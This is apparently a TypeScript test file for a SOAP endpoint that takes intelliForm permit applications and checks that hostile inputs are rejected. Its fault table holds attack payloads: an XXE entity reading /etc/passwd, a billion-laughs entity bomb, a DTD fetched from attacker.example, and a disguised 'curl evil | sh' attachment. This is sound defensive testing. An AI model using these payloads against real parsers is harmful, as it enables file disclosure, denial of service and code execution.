import { after, before, it } from 'node:test';
import assert from 'node:assert/strict';
import { XMLParser } from 'fast-xml-parser';
import { describeEachDatabase } from '../../../test/db.js';
import { createTestApp, type TestApp } from '../../../test/app.js';
import { withTenant } from '../../db/database.js';
import type { Applicant, FormItem } from '../../db/schema.js';
import { PDF, PNG, blobTempFiles, intakeWorld, storedCounts } from '../../../test/intake-kit.js';
import { BAUMFAELLUNG_XML, depositEnvelope } from '../../../test/fixtures/intelliform.js';

const parse = (xml: string) => new XMLParser({ removeNSPrefix: true, processEntities: false }).parse(xml) as Record<string, any>;

describeEachDatabase('intake channel c: intelliForm SOAP deposit', (t) => {
  let h: TestApp;
  let w: Awaited<ReturnType<typeof intakeWorld>>;
  let token: string;
  before(async () => {
    h = await createTestApp(t.db, { intake: { maxAttachmentBytes: 64 * 1024 } });
    w = await intakeWorld(t, { ags: '09162000', leikaKey: '99104005000000' });
    token = w.headers.authorization!.slice('Bearer '.length);
  });
  after(async () => h.close());

  const deposit = (xml: string) => h.app.inject({ method: 'POST', url: '/api/intake/intelliform', headers: { 'content-type': 'text/xml; charset=utf-8', soapaction: '""' }, payload: xml });

  it('deposits an application: SOAP response with the case, labelled form tree, raw XML kept, mailbox from the attributes', async () => {
    const xml = depositEnvelope({
      id: 'if-2025-000815',
      token,
      extraAttachments: [
        { id: 'PDF-Antrag', name: 'Antrag.pdf', contentType: 'application/pdf', content: PDF },
        { id: 'Foto-1', name: 'Foto Baum.png', contentType: 'image/png', content: PNG },
      ],
    });
    const res = await deposit(xml);
    assert.equal(res.statusCode, 200, res.body);
    const params = parse(res.body).Envelope.Body.depositResponse.return.customParameters as Array<{ key: string; value: string }>;
    const answer = Object.fromEntries(params.map((p) => [p.key, String(p.value)]));
    assert.equal(answer.transactionId, 'if-2025-000815');
    assert.equal(answer.status, 'new');
    const kase = await withTenant(t.db, { tenantId: w.tenant.id }, (trx) => trx.selectFrom('cases').selectAll().where('id', '=', answer.vorgangId!).executeTakeFirstOrThrow());
    assert.equal(kase.case_number, answer.vorgangNummer);
    const form = kase.form_data as unknown as FormItem[];
    assert.deepEqual(form[0]!.formItems!.slice(0, 3), [
      { name: 'Vorname', label: 'Vorname', stringValue: 'Renate' },
      { name: 'Nachname', label: 'Nachname', stringValue: 'Öztürk & Söhne' },
      { name: 'Geburtsdatum', label: 'Geburtsdatum', dateValue: '1968-11-02' },
    ]);
    assert.deepEqual(form.filter((i) => i.name === 'Baum').map((b) => b.formItems![2]), [
      { name: 'Schaedlingsbefall', label: 'Schädlingsbefall', booleanValue: true },
      { name: 'Schaedlingsbefall', label: 'Schädlingsbefall', booleanValue: false },
    ]);
    const applicant = kase.applicant as unknown as Applicant;
    assert.deepEqual(applicant.mailbox, { identifier: 'pk-7f3a9c21-bayernid', type: 'bayernid', rawType: 'POSTKORB', accountType: 'BAYERN_ID', trustLevel: 'STORK-QAA-Level-3', level: 'substantial' });
    assert.equal(applicant.address?.city, 'München');
    const files = await withTenant(t.db, { tenantId: w.tenant.id }, (trx) => trx.selectFrom('attachments').select(['kind', 'file_name', 'mime_type', 'sha256']).where('case_id', '=', kase.id).orderBy('file_name').execute());
    assert.deepEqual(files.map((f) => [f.kind, f.file_name, f.mime_type]), [
      ['representation', 'Antrag.pdf', 'application/pdf'],
      ['primary-data', 'Antragsdaten.xml', 'application/xml'],
      ['attachment', 'Foto Baum.png', 'image/png'],
    ]);
    const raw = files.find((f) => f.kind === 'primary-data')!;
    const chunks: Buffer[] = [];
    for await (const c of await h.blobs.get(raw.sha256)) chunks.push(c as Buffer);
    assert.equal(Buffer.concat(chunks).toString('utf8'), BAUMFAELLUNG_XML);
    const again = await deposit(xml);
    assert.equal(again.statusCode, 200);
    assert.match(again.body, new RegExp(`<value>${answer.vorgangId}</value>`));
  });

  const faults: Array<[string, () => string, number, RegExp]> = [
    ['external entity (XXE) in the envelope', () => `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${depositEnvelope({ token: 'x' }).replace(/^<\?xml[^>]*>/, '')}`, 500, /DTD/],
    ['billion laughs', () => `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol1;</lolz>`, 500, /DTD/],
    ['a DTD inside the primary data XML', () => depositEnvelope({ token: 'TOKEN', primaryXml: `<?xml version="1.0"?><!DOCTYPE Antrag SYSTEM "http://attacker.example/x.dtd"><Antrag><A>1</A></Antrag>` }), 500, /DTD/],
    ['malformed XML', () => depositEnvelope({ token: 'TOKEN' }).replace('</soapenv:Body>', ''), 500, /wohlgeformt/],
    ['missing transaction id', () => depositEnvelope({ token: 'TOKEN' }).replace(/<id>if-[^<]*<\/id>/, ''), 500, /data\.id/],
    ['invalid base64', () => depositEnvelope({ token: 'TOKEN', rawPrimaryBase64: '!!!kein base64!!!' }), 500, /Base64/],
    ['an oversized attachment', () => depositEnvelope({ token: 'TOKEN', extraAttachments: [{ id: 'gross', name: 'gross.pdf', contentType: 'application/pdf', content: Buffer.alloc(70 * 1024, 0x41) }] }), 413, /größer/],
    ['an executable attachment', () => depositEnvelope({ token: 'TOKEN', extraAttachments: [{ id: 'x', name: 'foto.png', contentType: 'image/png', content: Buffer.from('#!/bin/bash\ncurl evil | sh\n') }] }), 500, /ausführbar/],
    ['no credentials', () => depositEnvelope(), 401, /Zugang/],
  ];
  for (const [name, build, status, message] of faults) {
    it(`answers ${name} with an ApplicationFault and stores nothing`, async () => {
      const before = await storedCounts(t);
      const res = await deposit(build().replace(/TOKEN/g, token));
      assert.equal(res.statusCode, status, res.body);
      assert.match(String(res.headers['content-type']), /text\/xml/);
      const fault = parse(res.body).Envelope.Body.Fault;
      assert.ok(fault, res.body);
      assert.match(String(fault.detail.ApplicationFault.message), message);
      assert.deepEqual(await storedCounts(t), before);
      assert.deepEqual(blobTempFiles(h.config.dataDir), []);
    });
  }

  it('refuses a non-XML content type with a fault', async () => {
    const res = await h.app.inject({ method: 'POST', url: '/api/intake/intelliform', headers: { 'content-type': 'application/json' }, payload: '{}' });
    assert.equal(res.statusCode, 415);
    assert.ok(parse(res.body).Envelope.Body.Fault);
  });
});
